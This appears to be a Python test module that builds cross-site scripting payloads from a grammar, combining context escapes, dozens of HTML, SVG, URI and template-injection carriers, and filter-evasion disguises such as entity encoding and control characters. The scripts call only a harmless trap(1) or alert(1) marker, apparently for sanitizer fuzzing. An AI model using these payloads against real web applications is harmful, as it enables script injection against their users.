"""Text that wants to be markup: made from a grammar, so that nobody has to trust a list of what has worked elsewhere.

A payload is a way out of where the text may stand, a carrier that runs something, the script it runs, and a disguise.
"""

import random
import re
from collections.abc import Callable, Iterable, Iterator
from itertools import product

WAYS_OUT = [
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "\\",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "\n\n",
]

SCRIPTS = [
    "trap(1)", "top.trap(1)", "parent.trap(1)", "alert(1)", "trap`1`", "window['tr'+'ap'](1)", "self.trap?.(1)",
    "[1].map(trap)", "setTimeout('trap(1)')", "import('data:text/javascript,top.trap(1)')", "Function('trap(1)')()",
    "eval('tr'+'ap(1)')", "location='javascript:trap(1)'",
]  # fmt: skip

CARRIERS = [
    "<script>{js}</script>", "<script src='data:text/javascript,{js}'></script>", "<img src=x onerror={js}>", "<svg onload={js}>",
    '<svg><animate onbegin="{js}" attributeName=x dur=1s>', "<svg><script>{js}</script></svg>", "<body onload={js}>",
    "<iframe src='javascript:{js}'></iframe>", '<iframe srcdoc="<script>{js}</script>"></iframe>', "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>", "<video><source onerror={js}></video>", "<audio src=x onerror={js}>",
    "<object data='javascript:{js}'></object>", "<embed src='javascript:{js}'>", "<form><button formaction='javascript:{js}'>x",
    "<a href='javascript:{js}'>x</a>", "<math><a xlink:href='javascript:{js}'>x</a></math>", "<marquee onstart={js}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>", "<base href='javascript:{js}//'>", "<style onload={js}></style>",
    "<link rel=stylesheet href='data:text/css,' onload={js}>", "<template shadowrootmode=open><img src=x onerror={js}></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<div style='width:expression({js})'>", "<p onpointerrawupdate={js}>",
    "x onmouseover={js} y", "' onfocus='{js}' autofocus='", "javascript:{js}", "https://x.example/\"onmouseover=\"{js}",
    "[x](javascript:{js})", "![x](x\"onerror=\"{js})", "<javascript:{js}>", "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}",
    "{{% {js} %}}", "'-{js}-'", "\";{js};//", "</script><script>{js}</script>", "\\u003cimg src=x onerror={js}\\u003e", "data:text/html,<script>{js}</script>",
]  # fmt: skip


def _entities(text: str) -> str:
    return re.sub(r"[a-z](?=[^<>]*\()", lambda letter: f"&#{ord(letter[0])};", text)


DISGUISES: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: re.sub(r"(?<=[<\s])[a-z]+(?=[\s=>])", lambda word: word[0].title(), text),
    lambda text: text.replace("javascript:", "java\tscript:").replace(" on", "\x0bon"),
    lambda text: text.replace("javascript:", "JaVaScRiPt&colon;").replace(" on", "/on"),
    lambda text: text.replace("<", "<\0"),
    lambda text: text.replace("<", "＜").replace("javascript:", "ｊavascript:"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<s", "<<s").replace("<i", "<x/><i"),
    _entities,
]


def payloads(number: int, seed: int = 20261130) -> list[str]:
    """So many of all there are, the same for the same seed, with every carrier and way out among them."""
    every = [
        disguise(way + carrier.format(js=js))
        for way, carrier, js, disguise in product(WAYS_OUT, CARRIERS, SCRIPTS, DISGUISES)
    ]
    plain = [WAYS_OUT[n % len(WAYS_OUT)] + carrier.format(js="trap(1)") for n, carrier in enumerate(CARRIERS)]
    chosen = [*plain, *random.Random(seed).sample(every, number)]
    return list(dict.fromkeys(chosen))[:number]


def packed(texts: Iterable[str], most: int) -> Iterator[str]:
    """As many of them as go into a field of this size, again and again; one that is longer is cut."""
    held = ""
    for text in (text[:most] for text in texts):
        if held and len(held) + 1 + len(text) > most:
            yield held
            held = ""
        held = f"{held} {text}" if held else text
    if held:
        yield held
